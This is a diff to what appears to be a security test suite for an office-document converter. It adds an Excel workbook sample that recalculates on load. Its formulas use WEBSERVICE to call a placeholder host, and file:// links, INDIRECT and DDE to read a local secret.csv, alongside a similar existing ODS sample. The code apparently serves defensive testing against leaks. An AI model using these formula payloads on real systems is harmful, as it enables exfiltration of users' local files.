@@ -14,11 +14,13 @@ import { macroDocument } from './macro-document.js'
 import {
   docxFile,
   field,
+  formulas,
   framed,
   linkedPicture,
   openDocumentFile,
   paragraph,
   text,
+  xlsxFile,
 } from './office-file.js'
 
 const run = promisify(execFile)
@@ -145,6 +147,21 @@ const documents: Readonly<Record<string, Hostile>> = {
         'ods',
         `<table:table table:name="a"><table:table-row><table:table-cell office:value-type="string"><text:p>HELLO</text:p></table:table-cell><table:table-cell table:formula="of:='file://${files}/secret.csv'#$secret.A1"/><table:table-cell table:formula="of:=WEBSERVICE(&quot;${at}/w&quot;)"/><table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;${files}/secret.csv&quot;;&quot;secret.A1&quot;)"/></table:table-row></table:table>` +
           `<table:table table:name="b"><table:table-source xlink:href="file://${files}/secret.csv" table:filter-name="Text - txt - csv (StarCalc)" table:filter-options="44,34,76,1" xlink:type="simple"/><table:table-row><table:table-cell/></table:table-row></table:table>`,
+      ),
+  },
+  'an Excel workbook that asks for calculation, with values from elsewhere': {
+    format: 'xlsx',
+    make: (at, files) =>
+      xlsxFile(
+        formulas(1, [
+          ['&quot;HEL&quot;&amp;&quot;LO&quot;', '-'],
+          [`WEBSERVICE(&quot;${at}/w&quot;)`, '-'],
+          [`'file://${files}/secret.csv'#$secret.A1`, '-'],
+          [`'file://${files}/[secret.csv]secret'!A1`, '-'],
+          [`INDIRECT(&quot;'file://${files}/secret.csv'#$secret.A1&quot;)`, '-'],
+          [`DDE(&quot;soffice&quot;,&quot;${files}/secret.csv&quot;,&quot;secret.A1&quot;)`, '-'],
+        ]),
+        'fullCalcOnLoad="1"',
       ),
   },
   'RTF with pictures and a template from elsewhere': {
